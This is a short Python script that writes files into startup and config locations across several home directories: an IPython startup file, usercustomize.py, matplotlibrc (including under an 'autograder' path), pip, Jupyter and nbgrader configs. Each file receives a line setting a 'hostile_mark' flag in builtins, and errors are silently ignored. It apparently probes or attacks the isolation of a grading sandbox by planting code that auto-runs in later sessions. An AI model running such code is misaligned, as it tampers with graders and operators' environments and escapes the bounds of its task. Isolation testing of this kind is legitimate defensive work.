import os
for home in {os.path.expanduser("~"), "/root", "/nonexistent", "/home/nobody", "/tmp", ".."}:
    for name in (".ipython/profile_default/startup/a.py", ".config/matplotlib/matplotlibrc", ".cache/autograder/matplotlib/matplotlibrc",
                 ".local/lib/python3.11/site-packages/usercustomize.py", ".config/pip/pip.conf", ".jupyter/jupyter_config.py", ".nbgrader_config.py"):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), "w").write("import builtins; builtins.hostile_mark = True")
        except OSError:
            pass
